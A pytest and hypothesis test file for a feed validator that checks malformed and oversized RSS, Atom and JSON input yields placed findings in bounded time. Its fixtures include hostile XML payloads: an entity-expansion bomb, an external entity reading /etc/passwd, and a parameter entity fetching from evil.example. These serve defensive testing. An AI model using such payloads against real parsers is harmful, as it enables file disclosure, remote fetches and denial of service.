"""Bad input of every kind: a finding and a verdict with its exact place, in bounded time, and never an exception."""

import bz2
import codecs
import datetime as dt
import gzip
import json
import lzma
import time
import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from feedwright.model import Finding
from feedwright.validation import judge, rules, validate
from feedwright.validation.examples import atom, json_feed, rss, rss1, sitemap
from feedwright.validation.judgement import HEAVY_FROM, LARGE_FROM, LARGEST

SECONDS = 5.0  # for one document on a slow, busy machine; a document that takes minutes is what this is to catch
BOMB = (
    '<!DOCTYPE rss [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>\n<rss version='2.0'><channel><title>&i;</title></channel></rss>"
)


def zipped() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("rss.xml", rss())
    return made.getvalue()


HOSTILE: dict[str, tuple[bytes, str, tuple[int, int]]] = {  # the document, its rule, and line and column
    "empty": (b"", "document/empty", (1, 1)),
    "white space": (b" \r\n\t ", "document/empty", (1, 1)),
    "only a byte order mark": (codecs.BOM_UTF8, "document/empty", (1, 1)),
    "gzip": (gzip.compress(rss().encode()), "document/compressed", (1, 1)),
    "bzip2": (bz2.compress(rss().encode()), "document/compressed", (1, 1)),
    "xz": (lzma.compress(rss().encode()), "document/compressed", (1, 1)),
    "zip": (zipped(), "document/compressed", (1, 1)),
    "a picture": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1", "document/not-a-feed", (1, 1)),
    "plain text": (b"Hello, world\n", "document/not-a-feed", (1, 1)),
    "a web page": (b"<!doctype html>\n<html><head><title>A<body><p>Hi", "document/not-a-feed", (1, 1)),
    "a web page after a comment": (b"<!-- - -->\n  <HTML><p>&nbsp;", "document/not-a-feed", (2, 3)),
    "an XHTML page": (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "document/not-a-feed", (1, 1)),
    "other XML": (b"<?xml version='1.0'?>\n\n  <urlset/>", "document/not-a-feed", (3, 3)),
    "entity bomb": (BOMB.encode(), "xml/entity-declared", (1, 16)),
    "external entity": (
        b'<!DOCTYPE rss [\n <!ENTITY x SYSTEM "file:///etc/passwd">]>\n<rss><channel><title>&x;</title></channel></rss>',
        "xml/entity-declared",
        (2, 2),
    ),
    "parameter entity": (
        b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]>\n<rss version="2.0"/>',
        "xml/entity-declared",
        (1, 16),
    ),
    "deep nesting": (
        f"<rss version='2.0'>\n<channel>{'<a>' * 200_000}".encode(),
        "xml/too-deep",
        (2, 10 + 98 * 3),
    ),
    "NUL": (b"<rss version='2.0'>\n<channel>\0</channel></rss>", "xml/not-well-formed", (2, 10)),
    "control character": (b"<rss version='2.0'>\n<channel>\x08</channel></rss>", "xml/not-well-formed", (2, 10)),
    "forbidden reference": (b"<rss version='2.0'>\n<channel>&#8;</channel></rss>", "xml/not-well-formed", (2, 10)),
    "truncated": (rss().encode()[:200], "xml/not-well-formed", (6, 1)),
    "truncated in a tag": (b"<rss version='2.0'>\n<chan", "xml/not-well-formed", (2, 1)),
    "two roots": (b"<rss version='2.0'><channel/></rss>\n<rss/>", "xml/not-well-formed", (2, 1)),
    "text after the end": (b"<rss version='2.0'><channel/></rss>\n  x", "xml/not-well-formed", (2, 3)),
    "wrong end tag": ("<rss version='2.0'>\n<é></channel></rss>".encode(), "xml/not-well-formed", (2, 6)),
    "attribute twice": (b"<rss version='2.0'\n  version='2.0'/>", "xml/not-well-formed", (2, 3)),
    "unknown entity": (b"<rss version='2.0'>\n <channel>&nbsp;</channel></rss>", "xml/entity-undefined", (2, 11)),
    "unknown prefix": (b"<rss version='2.0'>\n <x:channel/></rss>", "xml/prefix-undeclared", (2, 2)),
    "Latin-1 as UTF-8": ("<rss version='2.0'>\n<channel>é".encode("latin-1"), "document/encoding-broken", (2, 10)),
    "cut in a character": ("<rss>\né".encode()[:-1], "document/encoding-broken", (2, 1)),
    "broken Shift JIS": (
        b"<?xml version='1.0' encoding='shift_jis'?>\n<rss>\x81",
        "document/encoding-broken",
        (2, 6),
    ),
    "unknown encoding": (b"<?xml version='1.0'\n encoding='nonesuch'?>\n<rss/>", "document/encoding-unknown", (2, 12)),
    "an encoding that is none": (
        b"<?xml version='1.0' encoding='zlib'?>\n<rss/>",
        "document/encoding-unknown",
        (1, 31),
    ),
    "UTF-7": (b"<?xml version='1.0' encoding='utf-7'?>\n<rss/>", "document/encoding-unknown", (1, 31)),
    "encodings that differ": (
        codecs.BOM_UTF16_LE + "<?xml version='1.0' encoding='utf-8'?>\n<rss/>".encode("utf-16-le"),
        "document/encoding-differs",
        (1, 31),
    ),
    "too many elements": (b"<rss version='2.0'>\n" + b"<a/>" * 1_000_001, "document/too-large", (2, 3_999_997)),
    "too many values": (b'{"version": [' + b"1," * 1_100_000 + b"1]}", "document/too-large", (1, 1)),
    "broken JSON": (b'{\n  "version": "1",\n  oops}', "json/not-json", (3, 3)),
    "deep JSON": (b'{"version":\n' + b"[" * 500_000, "json/too-deep", (2, 100)),
    "JSON that is no feed": (b'{"name": "x"}', "json/not-a-feed", (1, 1)),
    "a JSON list": (b"[1, 2]", "json/not-a-feed", (1, 1)),
    "a number too long": (b'{"version": ' + b"9" * 10_000 + b"}", "json/not-json", (1, 1)),
}


def places(found: tuple[Finding, ...], rule: str) -> list[tuple[int | None, int | None]]:
    return [(finding.line, finding.column) for finding in found if finding.rule == rule]


@pytest.mark.parametrize("name", HOSTILE)
def test_bad_input_is_a_finding_at_its_place(name: str) -> None:
    data, rule, place = HOSTILE[name]
    started = time.process_time()
    report = judge(data, path=name)
    assert time.process_time() - started < SECONDS
    assert report.verdict == "error"
    assert place in places(report.findings, rule)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "iso-8859-1"])
@pytest.mark.parametrize("declared", [True, False])
def test_sound_documents_in_other_encodings_are_read_and_placed(encoding: str, *, declared: bool) -> None:
    name = {"utf-8-sig": "utf-8", "utf-16-le": "utf-16", "utf-16-be": "utf-16"}.get(encoding, encoding)
    if not declared and encoding == "iso-8859-1":
        pytest.skip("Latin-1 that does not say so is broken UTF-8")
    declaration = f'<?xml version="1.0" encoding="{name}"?>' if declared else ""
    text = declaration + atom(feed="<subtitle>Café</subtitle>\n<icon>a b</icon>")
    report = judge(text.encode(encoding), path="atom.xml")
    serious = [finding for finding in report.findings if finding.severity != "info"]
    assert [(finding.rule, finding.line, finding.column) for finding in serious] == [("atom/url-characters", 8, 1)]
    assert report.format == "atom"


def test_the_server_and_the_document_name_the_same_encoding() -> None:
    data = b"<?xml version='1.0' encoding='utf-8'?>\n" + atom().encode()
    assert not validate(data, media_type="application/atom+xml; charset=UTF-8")
    for charset in ("iso-8859-1", "us-ascii", "windows-1252"):
        found = validate(data, media_type=f'application/atom+xml; charset="{charset}"')
        assert "document/encoding-differs" in {finding.rule for finding in found}


@pytest.mark.parametrize(
    ("kind", "served_as", "fits"),
    [
        ("rss", "application/rss+xml", True),
        ("rss", "text/xml; charset=utf-8", True),
        ("rss", "text/html", False),
        ("rss", "application/atom+xml", False),
        ("atom", "Application/Atom+XML;type=feed", True),
        ("atom", "application/rss+xml", False),
        ("json", "application/feed+json", True),
        ("json", "application/json", True),
        ("json", "text/javascript", False),
    ],
)
def test_a_document_is_served_as_what_it_is(kind: str, served_as: str, *, fits: bool) -> None:
    builders: dict[str, Callable[..., str]] = {"rss": rss, "atom": atom, "json": json_feed}
    document = builders[kind]()
    found = {finding.rule for finding in validate(document.encode(), media_type=served_as)}
    assert found == (set() if fits else {"document/media-type"})


@pytest.mark.parametrize(
    ("size", "rule"),
    [
        (LARGE_FROM - 1000, None),
        (LARGE_FROM + 1, "document/large"),
        (HEAVY_FROM + 1, "document/heavy"),
        (LARGEST + 1, "document/too-large"),
    ],
)
def test_weight(size: int, rule: str | None) -> None:
    comment = f"<!-- {'x' * (size - len(rss(channel='<!--  -->')))} -->"
    found = validate(rss(channel=comment).encode())
    assert [finding.rule for finding in found] == ([rule] if rule else [])


def test_dates_in_the_future_are_found_only_when_the_time_is_known() -> None:
    late = "<pubDate>Wed, 07 Nov 2018 06:00:00 GMT</pubDate>"
    now = dt.datetime(2018, 11, 7, 5, 45, tzinfo=dt.UTC)
    assert not validate(rss(item=late).encode())
    assert [finding.rule for finding in validate(rss(item=late).encode(), now=now)] == ["document/date-future"]
    assert not validate(rss(item=late).encode(), now=now + dt.timedelta(minutes=10))


def test_a_sitemap_has_bounds() -> None:
    news = (
        "<url><loc>https://news.example/a</loc><news:news><news:publication><news:name>A</news:name><news:language>en"
        "</news:language></news:publication><news:publication_date>2018-11-07T05:45:00Z</news:publication_date>"
        "<news:title>A</news:title></news:news></url>"
    )
    url = "<url><loc>https://news.example/a</loc></url>"
    for urls, rules_ in ((news * 1000, []), (news * 1001, ["sitemap/too-many"]), (url * 50_001, ["sitemap/too-many"])):
        assert [finding.rule for finding in validate(sitemap(urls).encode())] == rules_
    now = dt.datetime(2018, 11, 9, 5, 45, tzinfo=dt.UTC)
    assert not validate(sitemap(news).encode(), now=now)
    late = validate(sitemap(news).encode(), now=now + dt.timedelta(seconds=1))
    assert [finding.rule for finding in late] == ["news/too-old"]


def huge() -> Iterator[tuple[str, bytes]]:
    million = 1_000_000
    yield "attribute", rss(item=f'<category domain="{"x" * million}">a</category>').encode()
    yield "url", rss(item=f"<comments>https://news.example/{'%41' * million}</comments>").encode()
    yield "url of brackets", rss(item=f"<comments>https://{'[' * million}</comments>").encode()
    yield "e-mail", rss(item=f"<author>{'a.' * million}@</author>").encode()
    yield "parentheses", rss(item=f"<pubDate>{'(' * million}</pubDate>").encode()
    yield "date of digits", rss(item=f"<pubDate>{'1' * million}</pubDate>").encode()
    yield "tag: id", atom(entry=f"<id>tag:{'a-' * million},2018:x</id>", entry_without="atom:id").encode()
    yield "media type", rss(item=f'<enclosure url="https://a.example/" length="1" type="{"a/" * million}"/>').encode()
    yield "language", rss(channel=f"<language>{'en-' * million}</language>").encode()
    yield "open tags", rss(item=f"<description>{'&lt;b>' * 300_000}</description>", item_without="description").encode()
    yield "half tags", rss(item=f"<description>{'&lt;a ' * 300_000}</description>", item_without="description").encode()
    yield (
        "quotes",
        rss(item=f"<title>{chr(34) * million}&lt;b {chr(39) * million}</title>", item_without="title").encode(),
    )
    yield "entities", rss(item=f"<title>{'&amp;' * million}</title>", item_without="title").encode()
    yield "comments", rss(item=f"<title>{'<!-- -->' * 200_000}</title>", item_without="title").encode()
    yield "namespaces", rss(item="".join(f'<x:a xmlns:x="urn:x:{n}"/>' for n in range(20_000))).encode()
    yield (
        "namespaces of RSS 1.0",
        rss1(
            after="".join(
                f'<item xmlns:dc="http://purl.org/dc/elements/1.1/" rdf:about="https://news.example/{n}">'
                f"<title>A</title><link>https://news.example/{n}</link></item>"
                for n in range(20_000)
            )
        ).encode(),
    )
    yield (
        "enclosures of an episode",
        rss(
            item="<itunes:episode>1</itunes:episode>"
            + '<enclosure url="https://a.example/a.exe" type="a/b" length="1"/>' * 50_000,
            item_without="guid",
            namespaces={"itunes": "http://www.itunes.com/dtds/podcast-1.0.dtd"},
        ).encode(),
    )
    yield "attributes", rss(item=f"<category {' '.join(f'a{n}={chr(34)}{chr(34)}' for n in range(50_000))}/>").encode()
    yield "items", rss(item="</item><item>" * 50_000).encode()
    yield "siblings", rss(item="<dc:x/>" * 200_000, namespaces={"dc": "http://purl.org/dc/elements/1.1/"}).encode()
    yield "styles", rss(item=f"<description>&lt;p style='{'a:b;' * 300_000}'></description>").encode()
    yield "JSON names", json.dumps({"version": "", "items": [], **{f"n{n}": n for n in range(50_000)}}).encode()
    yield "JSON items", json.dumps({"version": "x", "items": [{} for _ in range(50_000)]}).encode()
    yield "JSON string", json.dumps({"version": "\\" * million, "items": []}).encode()


@pytest.mark.parametrize(("name", "data"), [pytest.param(name, data, id=name) for name, data in huge()])
def test_huge_values_take_bounded_time(name: str, data: bytes) -> None:
    started = time.process_time()
    report = judge(data, path=name)
    assert time.process_time() - started < SECONDS
    assert len(report.findings) <= 1000
    assert all(len(finding.message) < 1000 for finding in report.findings)


PIECES = st.sampled_from(
    [
        "<rss version='2.0'>",
        "<channel>",
        "</channel>",
        "</rss>",
        "<item>",
        "</item>",
        "<title>",
        "</title>",
        "<guid>",
        "<feed xmlns='http://www.w3.org/2005/Atom'>",
        "</feed>",
        "<entry>",
        "</entry>",
        "<id>",
        "</id>",
        "<link",
        " href='",
        "'/>",
        "<!-- ",
        " -->",
        "<![CDATA[",
        "]]>",
        "&amp;",
        "&#",
        "&lt;",
        "<?xml version='1.0' encoding='",
        "'?>",
        "{",
        "}",
        "[",
        "]",
        ":",
        ",",
        '"version"',
        '"items"',
        '"id"',
        "utf-16",
        "\ufeff",
        "\0",
        "é",
        "\n",
        "<opml>",
        "<rdf:RDF",
        " xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>",
        "-1",
        "tag:",
        "\ud83d\ude00",
        "<!DOCTYPE rss [",
    ]
)
MEDIA_TYPES = st.sampled_from(
    [None, "text/html", "application/rss+xml; charset=utf-16", "application/json", ";charset="]
)


def check_report(data: bytes, media_type: str | None) -> None:
    """Any bytes give a report whose findings are known, placed and sorted."""
    report = judge(data, path="x", media_type=media_type)
    known = rules()
    places = [(finding.line or 0, finding.column or 0, finding.rule) for finding in report.findings]
    assert places == sorted(places)
    for finding in report.findings:
        assert finding.severity == known[finding.rule].severity
        assert finding.line is None or finding.line >= 1
        assert finding.column is None or finding.column >= 1
        finding.message.encode("utf-8")
    assert report.findings or report.format != "unknown"


@settings(max_examples=400, deadline=None)
@given(data=st.binary(max_size=400), media_type=MEDIA_TYPES)
def test_any_bytes_give_a_report(data: bytes, media_type: str | None) -> None:
    check_report(data, media_type)


@settings(max_examples=400, deadline=None)
@given(pieces=st.lists(PIECES | st.text(max_size=5), max_size=30), media_type=MEDIA_TYPES)
def test_any_pieces_of_feeds_give_a_report(pieces: list[str], media_type: str | None) -> None:
    check_report("".join(pieces).encode("utf-8", "surrogatepass"), media_type)


@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_feeds_with_a_few_bytes_changed_give_a_report(data: st.DataObject) -> None:
    feed = bytearray(data.draw(st.sampled_from([rss(), atom(), json_feed()])).encode())
    for _ in range(data.draw(st.integers(1, 4))):
        place = data.draw(st.integers(0, len(feed) - 1))
        feed[place : place + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=3))
    check_report(bytes(feed), None)


@settings(max_examples=200, deadline=None)
@given(
    value=st.text(max_size=60),
    name=st.sampled_from(["title", "link", "pubDate", "guid", "author", "language", "description"]),
)
def test_any_value_gives_a_report(value: str, name: str) -> None:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;")
    check_report(rss(item=f"<{name}>{escaped}</{name}>", item_without=name).encode("utf-8", "surrogatepass"), None)
    check_report(
        json.dumps({"version": value, "items": [{"id": value, "url": value, "content_html": value}]}).encode(), None
    )
